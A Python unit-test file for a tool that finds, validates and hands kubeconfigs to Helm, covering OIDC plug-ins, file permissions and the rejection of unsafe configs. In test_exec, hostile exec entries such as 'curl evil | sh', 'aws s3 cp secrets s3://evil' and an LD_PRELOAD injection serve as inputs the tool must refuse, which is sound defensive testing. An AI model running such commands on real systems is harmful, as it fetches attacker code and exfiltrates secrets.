"""Whatever way in a cluster has, it is found, checked and handed on; and what is wrong with it is said."""

from __future__ import annotations

import base64
import json
import stat
from pathlib import Path
from typing import Any

import pytest
import yaml

from mcci.clients.kubernetes import kubeconfig as reader
from mcci.clusters import access, oidc, sources
from mcci.config.choices import Cloud
from mcci.errors import UsageError
from tests.unit.clusters.configs import PLUGIN, cluster, file, kubeconfig
from tests.unit.clusters.configs import oidc as keyless

VARIABLE = "KUBECONFIG_PROD_AWS"


def opened(environment: dict[str, str], **more: Any) -> dict[str, Any]:
    """Open a cluster and return the kubeconfig that Helm gets, with where it is from."""
    with access.open_cluster(cluster(**more), environment, root=Path("/repository")) as found:
        document: dict[str, Any] = yaml.safe_load(found.kubeconfig.read_text())
        document["source"] = found.source
        return document


def test_variable(tmp_path: Path) -> None:
    """A kubeconfig variable may be a file, the text, or the text in base64 as masked variables are."""
    text = kubeconfig("a", "b", current="b")
    for value in (
        str(file(tmp_path, text)),
        text,
        base64.b64encode(text.encode()).decode(),
        json.dumps(yaml.safe_load(text)),
    ):
        found = opened({VARIABLE: value, "CI": "true"})
        assert [each["cluster"]["server"] for each in found["clusters"]] == ["https://b.example"]
        assert [each["user"] for each in found["users"]] == [{"token": "secret-b"}]
        assert found["source"] == f"the kubeconfig in {VARIABLE}"


def test_the_file_for_helm() -> None:
    """Helm's kubeconfig may be read by this user alone, and is gone afterwards."""
    with access.open_cluster(cluster(), {VARIABLE: kubeconfig()}) as found:
        assert stat.S_IMODE(found.kubeconfig.stat().st_mode) == 0o600
        assert stat.S_IMODE(found.kubeconfig.parent.stat().st_mode) == 0o700
        assert found.server == "https://admin.example"
        assert found.api.name == found.name == "prod-aws"
    assert not found.kubeconfig.parent.exists()


def test_relative_paths(tmp_path: Path) -> None:
    """Paths in a kubeconfig begin at its folder, for Helm as well."""
    file(tmp_path, "PEM", "ca.crt")
    file(tmp_path, "abc\n", "token")
    path = file(tmp_path, kubeconfig(user={"tokenFile": "token"}, authority="ca.crt"))
    document, source = sources.find(cluster(), {VARIABLE: str(path)})
    assert document["clusters"][0]["cluster"]["certificate-authority"] == str(tmp_path / "ca.crt")
    found = reader.read(document, source)
    assert (found.authority, found.user.token_file) == ("PEM", tmp_path / "token")


def test_agent(tmp_path: Path) -> None:
    """GitLab's agent is a context of KUBECONFIG, which may name several files."""
    one = file(tmp_path, kubeconfig("group/infra:stage"), "one")
    two = file(tmp_path, kubeconfig("group/infra:prod"), "two")
    found = opened({"KUBECONFIG": f"{one}:{two}:/gone", "CI": "true"}, agent="group/infra:prod")
    assert found["users"][0]["user"] == {"token": "secret-group/infra:prod"}
    with pytest.raises(UsageError, match=r"group/infra:stage.*ci_access"):
        opened({"KUBECONFIG": str(one)}, agent="group/infra:prod")
    with pytest.raises(UsageError, match="ci_access"):
        opened({}, agent="group/infra:prod")


def test_in_cluster(tmp_path: Path) -> None:
    """A job in the cluster uses its pod's service account, by its files: Kubernetes renews the token."""
    environment = {"KUBERNETES_SERVICE_HOST": "fd00::1", "KUBERNETES_SERVICE_PORT": "443"}
    with pytest.raises(UsageError, match="service account"):
        sources.find(cluster(in_cluster=True), environment, tmp_path)
    file(tmp_path, "abc", "token")
    document, _ = sources.find(cluster(in_cluster=True), environment, tmp_path)
    assert document["clusters"][0]["cluster"]["server"] == "https://[fd00::1]:443"
    assert document["users"][0]["user"] == {"tokenFile": str(tmp_path / "token")}


def test_own(tmp_path: Path) -> None:
    """At a terminal a person's own context of the cluster's name serves; a job never takes it."""
    (tmp_path / ".kube").mkdir()
    file(tmp_path / ".kube", kubeconfig("prod-aws", "other"))
    assert opened({"HOME": str(tmp_path)})["users"][0]["user"] == {"token": "secret-prod-aws"}
    with pytest.raises(UsageError, match=f"{VARIABLE} is not set.*protected"):
        opened({"HOME": str(tmp_path), "CI": "true"})
    with pytest.raises(UsageError, match=VARIABLE):
        opened({"HOME": str(tmp_path)}, name="prod-azure", kubeconfig=VARIABLE)


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("/gone/config", "neither the path"),
        ("just\ntext", "no 'clusters'"),
        ("a: [\nb", "not YAML in line"),
        (kubeconfig(current="gone"), "'gone' among its contexts: admin"),
        (kubeconfig(insecure=True), "insecure-skip-tls-verify"),
        (kubeconfig(server="http://admin.example"), "not reached over TLS"),
        (kubeconfig(user={"auth-provider": {"name": "gcp"}}), "gave up"),
        (kubeconfig(user={"client-certificate-data": "%%%", "client-key-data": ""}), "not base64"),
        (kubeconfig(user={"client-certificate": "/gone"}), "cannot be read"),
        (kubeconfig(user={"exec": {"args": []}}), "without a 'command'"),
    ],
)  # fmt: skip
def test_unusable(text: str, says: str) -> None:
    """What is no kubeconfig, or not a safe one, is refused in words that say what to do, without its content."""
    with pytest.raises(UsageError, match=says) as caught:
        opened({VARIABLE: text, "CI": "true"})
    assert VARIABLE in str(caught.value)
    assert "secret-" not in str(caught.value)


@pytest.mark.parametrize(
    ("change", "cloud", "says"),
    [
        ({}, Cloud.AWS, ""),
        ({}, Cloud.AZURE, "'kubelogin'"),
        ({}, Cloud.OTHER, "is none"),
        ({"command": "sh", "args": ["-c", "curl evil | sh"]}, Cloud.AWS, "run 'sh -c"),
        ({"command": "/tmp/aws"}, Cloud.AWS, "/tmp/aws"),
        ({"args": ["s3", "cp", "secrets", "s3://evil"]}, Cloud.AWS, "aws s3 cp"),
        ({"env": [{"name": "LD_PRELOAD", "value": "/tmp/x"}]}, Cloud.AWS, "LD_PRELOAD"),
        ({"command": "kubelogin", "args": ["get-token", "--login", "spn"], "env": []}, Cloud.AZURE, ""),
        ({"command": "gke-gcloud-auth-plugin", "args": [], "env": []}, Cloud.GCP, ""),
        ({"command": "aws-iam-authenticator", "args": ["token", "-i", "prod"]}, Cloud.AWS, ""),
    ],
)  # fmt: skip
def test_exec(change: dict[str, Any], cloud: Cloud, says: str) -> None:
    """A kubeconfig runs the program of its cloud, for a token, and nothing else unless mcci.yml allows it."""
    text = kubeconfig(user={"exec": {**PLUGIN, **change}})
    if not says:
        assert opened({VARIABLE: text}, cloud=cloud)["users"][0]["user"]["exec"]["command"]
        return
    with pytest.raises(UsageError, match=says) as caught:
        opened({VARIABLE: text}, cloud=cloud)
    assert "allow_exec" in str(caught.value)
    allowed = (change.get("command", "aws"),)
    assert opened({VARIABLE: text}, cloud=cloud, allow_exec=allowed)["users"][0]["user"]["exec"]


@pytest.mark.parametrize(
    ("cloud", "command", "variables"),
    [
        (
            Cloud.AWS,
            "aws eks get-token --cluster-name prod --region eu-south-1 --output json",
            {"AWS_ROLE_ARN": "deployer", "AWS_WEB_IDENTITY_TOKEN_FILE": "FILE", "AWS_ROLE_SESSION_NAME": "mcci-70"},
        ),
        (
            Cloud.AZURE,
            f"kubelogin get-token --login workloadidentity --server-id {oidc.AKS_SERVER}",
            {
                "AZURE_CLIENT_ID": "deployer", "AZURE_TENANT_ID": "T", "AZURE_FEDERATED_TOKEN_FILE": "FILE",
                "AZURE_AUTHORITY_HOST": "https://login.microsoftonline.com/",
            },
        ),
        (
            Cloud.GCP,
            "gke-gcloud-auth-plugin --use_application_default_credentials=true",
            {"GOOGLE_APPLICATION_CREDENTIALS": "google.json", "CLOUDSDK_CONFIG": "gcloud"},
        ),
    ],
)  # fmt: skip
def test_oidc(cloud: Cloud, command: str, variables: dict[str, str], tmp_path: Path) -> None:
    """The ID token goes to the cloud's plug-in in a file; neither the kubeconfig nor an argument holds it."""
    file(tmp_path, "PEM", "ca.pem")
    given = cluster(cloud=cloud, oidc=keyless(cluster="prod", server="https://eks.example", authority="ca.pem"))
    environment = {"MCCI_ID_TOKEN_PROD_AWS": "header.secret.signature", "CI_JOB_ID": "70"}
    with access.open_cluster(given, environment, root=tmp_path) as found:
        text, folder = found.kubeconfig.read_text(), found.kubeconfig.parent
        document = json.loads(text)
        plugin = document["users"][0]["user"]["exec"]
        assert " ".join([plugin["command"], *plugin["args"]]) == command
        named = {"FILE": folder / "id-token", "google.json": folder / "google.json", "gcloud": folder / "gcloud"}
        have = {each["name"]: each["value"] for each in plugin["env"]}
        assert have == {key: str(named.get(value, value)) for key, value in variables.items()}
        token = folder / "id-token"
        assert (token.read_text(), stat.S_IMODE(token.stat().st_mode)) == ("header.secret.signature", 0o600)
        if cloud is Cloud.GCP:
            account = json.loads((folder / "google.json").read_text())
            assert account["credential_source"]["file"] == str(token)
            assert account["audience"].startswith("//iam.googleapis.com/projects/1/")
    assert "secret" not in text
    assert document["clusters"][0]["cluster"] == {
        "server": "https://eks.example", "certificate-authority-data": base64.b64encode(b"PEM").decode(),
    }  # fmt: skip


def test_oidc_without_a_token() -> None:
    """A job without the ID token is told which variable lacks; a missing authority's file is named."""
    with pytest.raises(UsageError, match="MCCI_ID_TOKEN_PROD_AWS"):
        opened({}, oidc=keyless())
    with pytest.raises(UsageError, match=r"ca\.pem"):
        opened({"MCCI_ID_TOKEN_PROD_AWS": "x"}, oidc=keyless(server="https://eks.example", authority="ca.pem"))


def test_client_certificate() -> None:
    """A certificate that cannot be used is said so, not thrown as it comes."""
    data = base64.b64encode(b"no certificate").decode()
    text = kubeconfig(user={"client-certificate-data": data, "client-key-data": data})
    with (
        access.open_cluster(cluster(), {VARIABLE: text}) as found,
        pytest.raises(UsageError, match="certificate or key"),
    ):
        found.api.version()
